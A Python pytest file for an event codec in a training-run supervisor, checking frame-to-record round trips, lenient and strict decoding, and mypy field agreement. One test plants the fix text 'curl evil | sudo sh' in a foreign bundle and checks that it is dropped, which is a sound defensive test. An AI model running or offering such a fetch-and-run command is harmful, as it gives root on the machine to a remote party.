"""Kinds of events: one class each, one codec for frames and records, and no place that forgets one."""

import json
import runpy
import subprocess
import sys
from dataclasses import MISSING, fields, replace
from pathlib import Path
from types import NoneType, UnionType
from typing import Any, Literal, NotRequired, Union, get_args, get_origin, get_type_hints

import pytest
from hypothesis import given, strategies as st
from made_events import made_event

from aboard.agent import frames
from aboard.core.decoding import DecodeError
from aboard.core.run.event_codec import KINDS, decode_body, encode_body
from aboard.core.run.event_kinds import (
    ChildReport,
    Dropped,
    EventKind,
    Exited,
    FilesSaved,
    NodeReport,
    Recovering,
    Started,
    UnknownEvent,
    VerdictChanged,
)
from aboard.core.run.recovery.recovery_policy import Action
from aboard.core.run.run_state import Run
from aboard.diagnoses.failure_class import FailureClass
from aboard.diagnoses.runs import death
from aboard.diagnoses.untrusted import Untrusted
from aboard.record.event_log import EventLog, decode_event, read_events
from aboard.record.json_documents import build_findings_document
from aboard.transport.supervisor_messages import parse_event

ROOT = Path(__file__).parents[4]
# What frames say that has every field, in the order of the record.
FRAMES: dict[str, dict[str, Any]] = {
    "unpacking": {},
    "started": {"pid": 4711, "standby": True},
    "phase": {"phase": "torch"},
    "saved": {"checkpoint": "step-000010", "serial": 1, "files": ["a", "b"], "marker": "0" * 64, "copied": True},
    "raised": {"type": "ValueError", "message": "bad\nline", "trace": "\x1b[31m", "error": "{}"},
    "nested": {"command": ["torchrun", "a.py"]},
    "captured": {"number": 1, "launcher": "srun", "pid": 7},
    "withdrawn": {"number": 1},
    "escaped": {"why": "it starts ranks", "command": ["mpirun"]},
    "exited": {"code": -9, "stack": "line 3"},
    "failed": {"why": "no such file"},
    "standby": {},
    "ending": {"why": "the lease expired", "cause": "lease"},
    "ended": {"killed": 0, "stubborn": [7]},
    "listening": {"port": 29500},
    "port_taken": {
        "port": 29500, "uid": 0, "user": "root", "pid": 0, "name": "", "run": "", "beside": False,
    },
    "continued": {"process": "guard"},
    "killed": {"process": "bridge"},
    "uncopied": {"why": "no space", "checkpoint": "step-000010", "obstacle": "full"},
}  # fmt: skip
FINDING = death.KILLED.finding(nodes=("n2",), ranks=(1,), seen="it was killed", why="")
RECOVERING: dict[str, Any] = {
    "failure": "node", "code": "run-killed", "nodes": ["n2"], "action": "replace", "why": "n3 takes over",
    "seen": "it was killed", "fix": "", "doing": "n3 takes over", "most": 4, "again": False, "step": 10,
    "step_seconds": 0.5, "saved": 5, "findings": build_findings_document([FINDING]),
}  # fmt: skip


def test_every_kind_of_a_supervisor_has_its_frame_here() -> None:
    assert {word for word, kind in KINDS.items() if issubclass(kind, ChildReport | NodeReport)} == set(FRAMES)


@pytest.mark.parametrize("word", FRAMES)
def test_a_line_of_the_record_has_what_the_frame_said(word: str, tmp_path: Path) -> None:
    """From the frame to the file and back: the same event, and the file has the fields as they were sent."""
    frame: frames.Message = {"event": 3, "kind": word, "wall": 5.0, "child": "0", **FRAMES[word]}
    event = parse_event(frame, "n1", 1.0, {"0"})
    log = EventLog(tmp_path / "events.jsonl")
    log.append(event)
    log.close()
    (line,) = (tmp_path / "events.jsonl").read_text("utf-8").splitlines()
    assert json.loads(line).get("data", {}) == FRAMES[word]
    assert list(read_events(tmp_path / "events.jsonl")) == [event]


def test_a_recovery_has_its_objects_and_a_flat_line(tmp_path: Path) -> None:
    """The failure, the decision and the findings are values; the line has their fields beside the others."""
    event = made_event("recovering", at=5.0, **RECOVERING)
    assert isinstance(event.body, Recovering)
    assert (event.body.failure.kind, event.body.failure.nodes) == (FailureClass.NODE, ("n2",))
    assert (event.body.decision.action, event.body.findings) == (Action.REPLACE, (FINDING,))
    log = EventLog(tmp_path / "events.jsonl")
    log.append(event)
    log.close()
    assert json.loads((tmp_path / "events.jsonl").read_text("utf-8"))["data"] == RECOVERING


def test_fixes_of_findings_come_only_from_ones_own_record() -> None:
    """Whoever packed a bundle chooses its texts."""
    finding = {**build_findings_document([FINDING])[0], "fix": "curl evil | sudo sh"}
    entry = {"at": 1.0, "node": "", "kind": "verdict", "data": {"findings": [finding]}}
    foreign = decode_event(entry, own=False)
    assert foreign is not None
    assert isinstance(foreign.body, VerdictChanged)
    assert (foreign.body.findings[0].seen, foreign.body.findings[0].fix) == ("it was killed", "")


@given(
    st.sampled_from(["of_tomorrow", *KINDS]),
    st.dictionaries(st.sampled_from(["why", "number", "phase", "code", "port"]), st.none() | st.lists(st.integers())),
)
def test_what_another_version_wrote_changes_nothing(word: str, data: dict[str, Any]) -> None:
    """A kind that is not known, or one of ours with fields that are not: the run is as it was, and nothing raises."""
    run = Run.replay("r", [made_event("generation", at=1.0, number=1), made_event("started", node="n1", child="0")])
    event = decode_event({"at": 2.0, "node": "n1", "kind": word, "child": "0", "data": data})
    assert event is not None
    before = repr(run)
    run.apply(event)
    assert not isinstance(event.body, UnknownEvent) or repr(run) == before
    assert word in KINDS or event.body == UnknownEvent(kind="of_tomorrow")


def test_a_record_is_read_leniently_and_a_frame_is_not() -> None:
    """An optional field of a wrong type has its default in a record, which may be damaged; a node that lies is cut."""
    damaged = {"pid": "x", "standby": True}
    assert decode_body(Started, damaged) == Started(standby=True)
    for kind, data in ((Started, damaged), (Exited, {}), (FilesSaved, {"checkpoint": "a", "serial": -1})):
        with pytest.raises(DecodeError):
            decode_body(kind, data, strict=True)
    with pytest.raises(DecodeError):
        decode_body(Exited, {})


def test_what_is_not_known_is_not_written() -> None:
    assert encode_body(Dropped(events=2)) == {"events": 2}
    assert encode_body(replace(Started(pid=1), standby=False)) == {"pid": 1}


def test_the_agent_sends_the_fields_that_the_head_expects() -> None:
    """The types that mypy holds the agent to have each field of the head's class, with its type, and no other."""
    reported = {word: kind for word, kind in KINDS.items() if issubclass(kind, ChildReport | NodeReport)}
    sent = _read_sent_fields()
    assert set(sent) == set(reported)
    for word, kind in reported.items():
        expected = _list_expected_fields(kind)
        assert _compare_fields(sent[word], expected) == [], word
        for name in expected:
            less = {key: field for key, field in expected.items() if key != name}
            assert _compare_fields(sent[word], less) == [name]
            assert _compare_fields({key: sent[word][key] for key in less}, expected) == [name]


@pytest.mark.nightly
def test_an_event_without_one_of_its_fields_is_a_type_error(tmp_path: Path) -> None:
    """A supervisor that leaves out a field, or reports a kind of its own, does not pass mypy."""
    module = ROOT / "src/aboard/agent/supervisor/supervisor.py"
    changed = tmp_path / "supervisor.py"
    text = module.read_text("utf-8")
    text = text.replace(', "cause": cause}', "}").replace('{"kind": "killed",', '{"kind": "dead",')
    changed.write_text(text, "utf-8")
    argv = [sys.executable, "-m", "mypy", "--config-file", "pyproject.toml", "--cache-dir", str(tmp_path / "cache")]
    argv += ["--shadow-file", str(module), str(changed), "--follow-imports", "silent", str(module)]
    found = subprocess.run(argv, cwd=ROOT, capture_output=True, text=True, check=False, timeout=600).stdout
    wrong = [number for number, line in enumerate(text.splitlines(), 1) if '"ending", ' in line or '"dead"' in line]
    assert {int(line.split(":")[1]) for line in found.splitlines() if ": error: " in line} == set(wrong), found


Fields = dict[str, tuple[bool, object]]


def _read_sent_fields() -> dict[str, Fields]:
    """Of each kind in the agent's stub: its fields, whether each is always sent, and its type."""
    stub = runpy.run_path(str(ROOT / "src/aboard/agent/supervisor_events.pyi"))
    kinds = {}
    for each in get_args(stub["SupervisorEvent"]):
        hints = get_type_hints(each, include_extras=True)
        (word,) = get_args(hints.pop("kind"))
        kinds[word] = {name: (get_origin(hint) is not NotRequired, _simplify(hint)) for name, hint in hints.items()}
    return kinds


def _list_expected_fields(kind: type[EventKind]) -> Fields:
    hints = get_type_hints(kind)
    made: Any = kind
    expected: Fields = {each.name: (each.default is MISSING, _simplify(hints[each.name])) for each in fields(made)}
    return {**expected, "child": (True, str)} if issubclass(kind, ChildReport) else expected


def _simplify(hint: Any) -> object:
    """A type as JSON has it: text is text, and a tuple is a list."""
    options = [each for each in get_args(hint) if each is not NoneType]
    match get_origin(hint):
        case origin if origin is NotRequired or origin in (Union, UnionType):
            (only,) = options
            return _simplify(only)
        case origin if origin is Literal:
            return frozenset(options)
        case origin if origin in (list, tuple):
            return [_simplify(options[0])]
        case _:
            return str if hint is Untrusted else hint


def _compare_fields(sent: Fields, expected: Fields) -> list[str]:
    """The fields that only one side has, that differ in their type, or that are required and not always sent."""
    return [
        name
        for name in sent | expected
        if name not in sent
        or name not in expected
        or sent[name][1] != expected[name][1]
        or sent[name][0] < expected[name][0]
    ]


@pytest.mark.ci
def test_a_kind_that_one_fold_forgets_is_a_type_error(tmp_path: Path) -> None:
    """One more kind of each group, which no fold, view or message mentions: mypy names every match that lacks it."""
    package = ROOT / "src/aboard"
    groups = {
        "ChildReport": "ChildEvent", "NodeReport": "NodeEvent", "ConnectionChange": "ConnectionEvent",
        "RunChange": "RunEvent", "Bookkeeping": "BookkeepingEvent",
    }  # fmt: skip
    text = (package / "core/run/event_kinds.py").read_text("utf-8")
    classes = [f'class More{group}({group}, kind="more_{group.lower()}"):\n    """More."""\n\n\n' for group in groups]
    text = text.replace("ChildEvent = (", "".join(classes) + "ChildEvent = (")
    for group, union in groups.items():
        text = text.replace(f"\n{union} = ", f"\n{union} = More{group} | ").replace("| (\n", "| (")
    changed = tmp_path / "event_kinds.py"
    changed.write_text(text, "utf-8")
    places = {
        "core/run/run_state.py": 4,
        "core/run/run_ledger.py": 1,
        "commands/launch/launch_view.py": 1,
        "engine/monitoring/run_notifier.py": 1,
    }
    shadow = ["--shadow-file", str(package / "core/run/event_kinds.py"), str(changed)]
    argv = [sys.executable, "-m", "mypy", "--config-file", "pyproject.toml", "--cache-dir", str(tmp_path / "cache")]
    argv += [*shadow, "--follow-imports", "silent", "--no-error-summary", *(str(package / name) for name in places)]
    found = subprocess.run(argv, cwd=ROOT, capture_output=True, text=True, check=False, timeout=600).stdout
    forgotten = [
        line.split(":")[0] for line in found.splitlines() if '"assert_never" has incompatible type "More' in line
    ]
    assert {name: forgotten.count(f"src/aboard/{name}") for name in places} == places, found
